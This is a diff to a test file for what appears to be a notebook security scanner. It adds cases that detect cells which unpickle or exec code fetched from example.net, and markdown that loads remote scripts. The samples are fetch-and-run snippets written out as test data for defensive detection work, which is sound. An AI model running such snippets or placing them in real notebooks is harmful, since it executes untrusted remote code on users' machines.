@@ -47,6 +47,7 @@ def test_cells_that_hide_what_they_run(source: str, operand: str) -> None:
     "source",
     [
         "import pickle, requests\nm = pickle.loads(requests.get('http://example.net').content)",
+        "import pickle, urllib.request as u\npickle.load(u.urlopen('http://example.net'))",
         "import joblib\nm = joblib.load(urlopen('http://example.net/m.pkl'))",
         "import requests\nexec(requests.get('http://example.net/x.py').text)",
         "import pandas as pd, pickle\npd.read_pickle('https://example.net/a.pkl')",
@@ -91,3 +92,10 @@ def test_scripts_that_are_no_chart() -> None:
     }
     output = {"data": {"text/html": "<script>Plotly.newPlot(1); fetch('x')</script>"}}
     assert found(cell("1", outputs=[output])) == {"config.notebook-script text/html": "low"}
+
+
+def test_scripts_from_elsewhere() -> None:
+    text = {"cell_type": "markdown", "source": "<script src='https://example.net/x'></script>"}
+    assert found(notebook(text)) == {"config.notebook-odd-script markdown": "medium"}
+    text["source"] = "<script src='https://cdn.jsdelivr.net/npm/vega@5'></script>"
+    assert found(notebook(text)) == {"config.notebook-script markdown": "low"}
